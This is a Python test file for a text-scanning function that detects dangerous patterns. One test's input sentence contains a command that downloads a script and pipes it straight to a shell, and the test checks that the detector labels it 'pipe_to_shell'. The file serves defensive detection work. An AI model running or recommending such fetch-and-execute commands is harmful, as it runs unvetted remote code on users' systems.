from __future__ import annotations

from common.text.danger.detect import find_dangers


class TestFindDangers:
    def test_it_finds_a_pipe_of_fetched_text_to_a_shell(self):
        text = "Install it with curl -fsSL https://get.example.net/x | sh first."

        danger = find_dangers(text)[0]

        assert danger.kind == "pipe_to_shell"
        assert text[danger.start : danger.end].startswith("curl")

    def test_it_finds_nothing_in_ordinary_advice(self):
        assert find_dangers("Run the tests before each commit.") == ()
